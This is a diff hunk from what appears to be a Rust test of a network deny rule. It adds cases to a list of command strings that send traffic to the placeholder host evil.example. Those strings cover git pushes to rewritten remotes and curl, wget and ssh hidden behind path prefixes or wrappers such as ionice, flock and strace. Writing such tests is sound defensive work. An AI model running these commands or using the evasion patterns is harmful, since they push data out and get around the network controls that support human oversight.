@@ -826,6 +826,8 @@ fn a_denied_host_is_denied_where_traffic_is_led_to_it() {
         "git remote add o https://evil.example/x && git push o",
         "git remote set-url origin evil.example:x; git push",
         "git config url.https://evil.example/.insteadOf https://good.example/ && git push",
+        "./curl -m5 evil.example",
+        "/opt/bin/ssh -v evil.example",
         "ionice curl -s evil.example",
         "flock . wget -r evil.example",
         "strace -f ssh -qJ evil.example good.example",
